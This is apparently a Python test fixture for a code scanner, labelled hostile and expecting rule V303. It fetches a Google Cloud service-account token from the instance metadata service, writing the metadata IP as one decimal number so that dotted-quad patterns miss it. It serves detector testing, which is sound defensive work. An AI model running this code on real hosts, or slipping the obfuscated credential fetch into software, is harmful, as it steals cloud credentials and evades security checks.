# label: hostile
# expect: V303
# note: Reaches the metadata address written as one decimal number, which no pattern for dotted quads sees.
# allow: V301
import http.client

c = http.client.HTTPConnection("2852039166", 80, timeout=2)
c.request(
    "GET",
    "/computeMetadata/v1/instance/service-accounts/default/token",
    headers={"Metadata-Flavor": "Google"},
)
print(c.getresponse().read().decode())
